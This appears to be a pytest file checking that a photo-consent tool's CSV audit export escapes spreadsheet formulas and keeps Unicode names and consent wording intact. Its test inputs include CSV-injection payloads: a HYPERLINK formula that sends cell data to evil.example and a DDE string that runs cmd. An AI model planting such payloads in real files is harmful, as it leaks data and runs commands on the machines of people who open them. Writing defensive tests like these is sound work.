"""`photoguard audit --csv` read as a spreadsheet would read it: no formulas, names intact, events named."""

from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner

from photoguard.cli import main
from photoguard.flow.audit import consent_words, spreadsheet_safe
from photoguard.store.localtime import now_iso
from photoguard.store.db import connect
from photoguard.store.home import open_home

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click").jpg', "@SUM(1+1)*cmd.jpg", "+1+2.jpg", "-2+3.jpg",
        "\t=1.jpg", "\r=1.jpg"]


def _photo(conn, sha: str, source: str) -> None:
    conn.execute("INSERT INTO photos (sha256, source, state, outcome, received_at, finished_at) "
                 "VALUES (?, ?, 'done', 'cleared', ?, ?)", (sha, source, now_iso(), now_iso()))


def test_audit_csv_is_safe_for_spreadsheets(tmp_path):
    home = open_home(tmp_path)
    conn = connect(home.database)
    for i, name in enumerate(EVIL):
        _photo(conn, f"{i:064d}", name)
    sha = "f" * 64
    _photo(conn, sha, "Zoë und Jürgen im Garten.jpg")
    conn.execute("INSERT INTO faces (photo_sha256, idx, box, score, child_id, distance, reason) "
                 "VALUES (?, 0, '[1,2,3,4]', 0.9, 'zoe', 0.31, 'matched')", (sha,))
    consent = json.dumps({"child": "zoe", "face_matching": True, "channels": {"facebook": True, "instagram": False},
                          "expires": "2027-07-31", "problem": None})
    conn.execute("INSERT INTO face_actions VALUES (?, 0, 'facebook', 'shown', 'consent for facebook', ?)", (sha, consent))
    conn.execute("INSERT INTO events (at, kind, photo_sha256, detail) VALUES (?, 'rerendered', ?, 'facebook: x.jpg')",
                 (now_iso(), sha))
    conn.execute("INSERT INTO events (at, kind, photo_sha256, detail) VALUES (?, 'removed', ?, '=1+1')",
                 (now_iso(), f"{0:064d}"))

    out_file = tmp_path / "audit.csv"
    result = CliRunner().invoke(main, ["audit", "--csv", "--home", str(tmp_path), "-o", str(out_file)])
    assert result.exit_code == 0, result.output
    stdout = CliRunner().invoke(main, ["audit", "--csv", "--home", str(tmp_path)]).stdout_bytes
    for raw in (out_file.read_bytes(), stdout):
        assert raw.startswith(b"\xef\xbb\xbf")              # BOM: Excel opens it as UTF-8
        text = raw.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
        assert {r["photo"] for r in rows if r["outcome"] == "cleared"} >= {"'" + name for name in EVIL}
        face = next(r for r in rows if r["child"] == "zoe")
        assert face["photo"] == "Zoë und Jürgen im Garten.jpg"
        assert face["consent"] == "face matching yes; facebook yes, instagram no; expires 2027-07-31"
        events = {r["outcome"]: r for r in rows if r["outcome"].startswith("event")}
        assert events["event: rerendered"]["photo"] == "Zoë und Jürgen im Garten.jpg"
        assert events["event: removed"]["photo"] == "'" + EVIL[0] and events["event: removed"]["reason"] == "'=1+1"


def test_cell_and_consent_words():
    assert spreadsheet_safe("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert spreadsheet_safe("picnic.jpg") == "picnic.jpg" and spreadsheet_safe(None) == ""
    assert spreadsheet_safe(0.31) == "0.31"
    assert spreadsheet_safe("caf\udce9.jpg") == "caf\ufffd.jpg"    # an undecodable Latin-1 byte
    assert consent_words(None) == ""
    assert consent_words(json.dumps({"face_matching": False, "channels": {}, "expires": None,
                                     "problem": "line 4: expiry date unreadable"})) == \
        "face matching no; no expiry; roster problem: line 4: expiry date unreadable"
